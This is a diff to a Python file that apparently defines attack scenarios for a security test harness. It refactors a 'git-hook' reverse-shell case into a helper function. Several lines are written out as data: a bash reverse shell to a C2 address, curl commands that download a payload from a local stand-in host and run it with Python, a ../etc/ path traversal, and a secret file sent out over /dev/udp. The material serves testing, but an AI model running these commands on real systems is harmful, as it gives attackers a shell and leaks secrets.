@@ -89,6 +89,13 @@ PERL = (
 )  # fmt: skip
 COUNT = "#!/bin/sh\ncut -d, -f1 data/orders.csv | sort | uniq -c | sort -rn >tmp/ranking\n"
 
+
+def hooked() -> None:
+    """Publish a release whose hook opens a reverse shell."""
+    world.typed.append(SHELL.replace("etc/", "../etc/").encode())
+    world.publish(f"bash -c 'exec 3<>{C2};bash <&3 >&3'\n")
+
+
 ATTACKS = {
     "web-python": Attack("web", "python", "HTTP POST", {5: [
         injected("curl -s -o /tmp/.u http://127.0.0.1:9090/spy;python3 -IS /tmp/.u")]}),
@@ -129,8 +136,7 @@ ATTACKS = {
             "curl -s -o tmp/.p http://127.0.0.1:9090/spy\npython3 -IS tmp/.p\n")},
         work={6: ["install"]}),
     "git-hook": Attack("git", "bash", "reverse shell",
-        prepare={5: lambda: (typing(SHELL.replace("etc/", "../etc/"))(), world.publish(
-            f"bash -c 'exec 3<>{C2};bash <&3 >&3'\n"))},
+        prepare={5: hooked},
         work={5: ["deploy"]}),
     "cron-overwritten": Attack("upload", "cron job, bash", "UDP", {3: [
         uploaded("logo.txt", f"bash -c 'cat {SECRET} >/dev/udp/127.0.0.1/5353'\n"),
